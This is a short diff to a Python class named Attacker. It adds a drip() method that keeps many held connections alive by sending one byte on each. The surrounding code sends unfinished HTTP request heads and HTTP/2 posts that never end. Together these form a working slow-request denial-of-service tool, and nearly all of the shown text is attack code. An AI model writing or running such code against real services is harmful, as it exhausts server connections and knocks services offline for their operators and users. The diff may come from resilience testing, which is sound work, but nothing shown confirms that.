@@ -52,6 +52,13 @@ class Attacker:
         """Send the beginning of a request's head."""
         return self.send(f"GET / HTTP/1.1\r\nHost: {HOST}:{self.port}\r\nX-More: ".encode())
 
+    def drip(self) -> None:
+        """Send one more byte on every connection, so that none of them is idle."""
+        for one in self.sockets:
+            # The service may have had enough of it.
+            with suppress(OSError):
+                one.sendall(b"a")
+
     def http2_streams(self, count: int = 50) -> socket.socket:
         """Send posts over clear HTTP/2 that never end."""
         frames = [_frame(_SETTINGS, 0, 0, b"")]
